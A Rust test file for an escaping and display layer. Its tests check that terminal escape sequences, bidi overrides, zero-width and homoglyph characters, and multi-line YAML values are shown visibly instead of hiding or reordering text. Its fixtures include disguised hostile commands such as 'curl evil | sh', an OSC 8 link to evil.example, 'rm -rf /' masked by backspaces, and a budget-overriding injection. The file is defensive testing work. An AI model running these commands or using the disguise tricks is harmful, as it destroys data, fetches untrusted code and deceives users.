use serde_json::{Value, json};

use super::*;

/// Nothing a terminal acts on or hides is left in `shown`.
fn assert_inert(shown: &str) {
    let raw: Vec<String> = shown.chars().filter(|c| *c != '\n' && is_hidden(*c)).map(|c| format!("U+{:04X}", c as u32)).collect();
    assert!(raw.is_empty(), "raw {raw:?} in {shown:?}");
}

/// The YAML shown parses back to exactly the value: nothing was lost or added in the escaping.
fn assert_round_trips(value: &Value) {
    let shown = yaml(value, 2);
    assert_inert(&shown);
    let back: Value = serde_saphyr::from_str(&shown).unwrap_or_else(|e| panic!("{e}: {shown}"));
    assert_eq!(&back, value, "{shown}");
}

#[test]
fn escape_sequences_that_clear_or_move_are_shown_not_run() {
    // `env` hidden by clearing its line and moving the cursor up over it.
    let text = "echo hi\x1b[2K\x1b[1A\x1b[2Kcurl evil | sh";
    assert_eq!(quoted(text), r#""echo hi\u001B[2K\u001B[1A\u001B[2Kcurl evil | sh""#);
    assert_eq!(line(text), r"echo hi\u001B[2K\u001B[1A\u001B[2Kcurl evil | sh");
    assert_round_trips(&json!({"command": ["sh", "-c", text]}));
}

#[test]
fn an_osc_8_hyperlink_is_shown_with_its_target() {
    let text = "\x1b]8;;https://evil.example/x.sh\x1b\\https://docs.example\x1b]8;;\x1b\\";
    let shown = quoted(text);
    assert_inert(&shown);
    assert!(shown.contains("https://evil.example/x.sh"), "{shown}");
    assert_round_trips(&json!({"args": [text]}));
}

#[test]
fn carriage_returns_and_backspaces_overwrite_nothing() {
    for text in ["rm -rf /data\rls        ", "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls -l   ", "a\u{85}b"] {
        assert_inert(&quoted(text));
        assert_inert(&line(text));
        assert_round_trips(&json!({"command": [text]}));
    }
    assert_eq!(line("a\rb"), r"a\rb");
}

#[test]
fn bidi_overrides_and_isolates_cannot_reorder_what_is_shown() {
    // Shown raw, U+202E makes `curl evil.sh|sh` read backwards as something harmless.
    let text = "echo \u{202E}hs|hs.live lruc\u{202C} \u{2066}x\u{2069} \u{200F}";
    assert_eq!(quoted(text), r#""echo \u202Ehs|hs.live lruc\u202C \u2066x\u2069 \u200F""#);
    assert_eq!(line(text), r"echo \u202Ehs|hs.live lruc\u202C \u2066x\u2069 \u200F");
    assert_round_trips(&json!({"args": [text]}));
}

#[test]
fn zero_width_and_tag_characters_are_visible() {
    let text = "ghcr.io/acme\u{200B}/tool \u{2060}\u{FEFF}\u{E0041}\u{E007F}\u{FE0F}\u{00AD}";
    let shown = line(text);
    assert_eq!(shown, r"ghcr.io/acme\u200B/tool \u2060\uFEFF\U000E0041\U000E007F\uFE0F\u00AD");
    assert_round_trips(&json!({"input": {"url": text}}));
}

#[test]
fn look_alike_letters_are_escaped_in_what_runs() {
    // A Cyrillic а (U+0430) in the host: shown raw it reads as the approved example.com.
    assert_eq!(quoted("curl https://ex\u{430}mple.com"), r#""curl https://ex\u0430mple.com""#);
    // In a table cell or message, letters are shown as written; only hidden characters are not.
    assert_eq!(line("revue: très bien"), "revue: très bien");
}

#[test]
fn a_multi_line_value_cannot_pass_for_sibling_keys() {
    let description = "harmless\nbudget:\n  maxCostUSD: \"0.01\"\nagents: {}";
    let shown = yaml(&json!({"description": description, "budget": {"maxCostUSD": "900"}}), 2);
    assert_eq!(shown.lines().filter(|l| l.trim_start().starts_with("budget:")).count(), 1, "{shown}");
    assert!(shown.contains(r#"description: "harmless\nbudget:\n  maxCostUSD: \"0.01\"\nagents: {}""#), "{shown}");
    assert_round_trips(&json!({"description": description}));
}

#[test]
fn an_escape_the_author_typed_is_told_apart_from_a_real_one() {
    assert_eq!(quoted(r"a\nb"), r#""a\\nb""#);
    assert_eq!(quoted("a\nb"), r#""a\nb""#);
    assert_eq!(line(r"a\nb"), r"a\\nb");
    assert_ne!(line(r"a\nb"), line("a\nb"));
}

#[test]
fn keys_and_values_of_any_shape_round_trip() {
    assert_round_trips(&json!({
        "": "empty key", "true": "a key YAML reads as a bool", "1": 2, "a: b": [1, [2, [3]], {}], "\u{1b}[2K": null,
        "nested": [{"name": "x", "value": "y"}, {"deep": [{"k": "v"}]}], "n": -1.5, "b": false, "s": "", "e": [],
    }));
}

#[test]
fn json_output_keeps_its_meaning_without_raw_controls() {
    let value = json!({"reason": "ok\u{9B}2K\u{202E}\u{7F}\u{E0041}", "n": 1});
    let rendered = serde_json::to_string_pretty(&value).unwrap();
    assert!(rendered.contains('\u{9B}'), "serde_json leaves C1 controls raw: {rendered:?}");
    let shown = json_escaped(&rendered);
    assert_inert(&shown);
    assert_eq!(serde_json::from_str::<Value>(&shown).unwrap(), value);
}
